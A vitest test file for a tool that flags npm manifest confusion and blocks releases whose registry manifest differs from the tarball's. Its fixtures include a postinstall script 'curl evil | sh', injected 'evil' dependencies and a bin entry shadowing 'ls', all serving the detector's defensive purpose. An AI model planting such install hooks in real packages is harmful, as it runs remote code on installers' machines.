import { describe, expect, it } from 'vitest'
import { INSTALL_FIELDS, manifestMismatches, stagedManifestOf } from '../../src/core/manifest-confusion.js'
import { applyPolicy } from '../../src/core/policy.js'
import { reviewRelease } from '../../src/core/review.js'

const tarball = {
  name: 'a',
  version: '1.0.0',
  dependencies: { b: '^1.0.0' },
  scripts: { test: 'node t' },
  bin: { a: 'cli.js' },
}

describe('manifestMismatches: every field that decides what an install does', () => {
  it('finds nothing when the registry holds the tarball\'s manifest (plus the fields a registry adds)', () => {
    expect(manifestMismatches(tarball, { ...tarball, _id: 'a@1.0.0', dist: { integrity: 'x' }, _npmUser: { name: 'u' } })).toEqual([])
  })
  it.each([
    ['name', { name: 'other' }],
    ['version', { version: '1.0.1' }],
    ['dependencies', { dependencies: { b: '^1.0.0', evil: '1' } }],
    ['optionalDependencies', { optionalDependencies: { evil: '1' } }],
    ['peerDependencies', { peerDependencies: { evil: '1' } }],
    ['peerDependenciesMeta', { peerDependenciesMeta: { evil: { optional: true } } }],
    ['bundleDependencies', { bundleDependencies: ['evil'] }],
    ['scripts', { scripts: { test: 'node t', postinstall: 'curl evil | sh' } }],
    ['bin', { bin: { a: 'cli.js', ls: 'evil.js' } }],
    ['os', { os: ['linux'] }],
    ['cpu', { cpu: ['x64'] }],
    ['libc', { libc: ['glibc'] }],
    ['engines', { engines: { node: '>=99' } }],
    ['gypfile', { gypfile: true }],
  ])('spots a different %s', (field, change) => {
    expect(manifestMismatches(tarball, { ...tarball, ...change })).toEqual([field])
  })
  it('covers exactly the fields it claims to', () => {
    expect([...INSTALL_FIELDS].sort()).toEqual(['bin', 'bundleDependencies', 'cpu', 'dependencies', 'engines', 'gypfile', 'libc', 'name', 'optionalDependencies', 'os', 'peerDependencies', 'peerDependenciesMeta', 'scripts', 'version'])
  })
  it('treats empty, false and absent as the same, and bundledDependencies as bundleDependencies', () => {
    expect(manifestMismatches({ ...tarball, bundleDependencies: ['x'] }, { ...tarball, bundledDependencies: ['x'] })).toEqual([])
    expect(manifestMismatches({ ...tarball, bundleDependencies: false }, { ...tarball, bundleDependencies: [] })).toEqual([])
    expect(manifestMismatches({ ...tarball, os: [] }, tarball)).toEqual([])
  })
})

describe('stagedManifestOf: the manifest a registry shows for a staged item', () => {
  it('is null when the item carries no document (npm\'s documented item)', () => {
    expect(stagedManifestOf({ id: 'x', packageName: 'a', version: '1.0.0' }, '1.0.0')).toBeNull()
  })
  it('is the version\'s manifest from the staged document', () => {
    expect(stagedManifestOf({ packument: { versions: { '1.0.0': tarball } } }, '1.0.0')).toEqual(tarball)
  })
  it('is {} (differs on name and version) when the document does not hold this version as an object', () => {
    for (const packument of [{}, { versions: null }, { versions: { '2.0.0': tarball } }, { versions: { '1.0.0': 'x' } }, { versions: { '1.0.0': [tarball] } }, 'text']) {
      const m = stagedManifestOf({ packument }, '1.0.0')
      expect(m).toEqual({})
      expect(manifestMismatches(tarball, m!)).toEqual(expect.arrayContaining(['name', 'version']))
    }
  })
  it('does not read inherited properties', () => {
    expect(stagedManifestOf({ packument: { versions: {} } }, 'constructor')).toEqual({})
  })
})

describe('a manifest mismatch in the review and the policy', () => {
  const staged = { manifest: tarball, files: [{ path: 'package.json', size: 10, mode: 0o644, data: Buffer.from('{}') }] }
  const review = (registryManifest?: { mismatched: string[] } | 'unavailable') =>
    reviewRelease({ previous: null, previousVersion: null, staged, tag: 'latest', ...(registryManifest !== undefined && { registryManifest }) })
  it('is a danger finding naming the fields, refused even without a policy unless allowed by name', () => {
    const r = review({ mismatched: ['scripts', 'dependencies'] })
    const f = r.findings.find((x) => x.code === 'MANIFEST_MISMATCH')
    expect(f).toMatchObject({ severity: 'danger', args: { fields: 'scripts, dependencies' } })
    expect(applyPolicy(r.findings, {}, []).blocked.map((x) => x.code)).toEqual(['MANIFEST_MISMATCH'])
    expect(applyPolicy(r.findings, {}, ['MANIFEST_MISMATCH']).blocked).toEqual([])
    expect(applyPolicy(r.findings, { allow: ['MANIFEST_MISMATCH'] }, []).blocked).toEqual([])
  })
  it('is refused when the registry does not show its manifest, unless allowed by name; nothing when it matches or for record stores', () => {
    expect(review('unavailable').findings.find((x) => x.code === 'MANIFEST_UNVERIFIED')?.severity).toBe('danger')
    expect(applyPolicy(review('unavailable').findings, {}, []).blocked.map((x) => x.code)).toEqual(['MANIFEST_UNVERIFIED'])
    expect(applyPolicy(review('unavailable').findings, { refuse: 'danger', allow: ['MANIFEST_UNVERIFIED'] }, []).blocked).toEqual([])
    for (const r of [review({ mismatched: [] }), review()]) expect(r.findings.map((x) => x.code).filter((c) => c.startsWith('MANIFEST'))).toEqual([])
  })
})
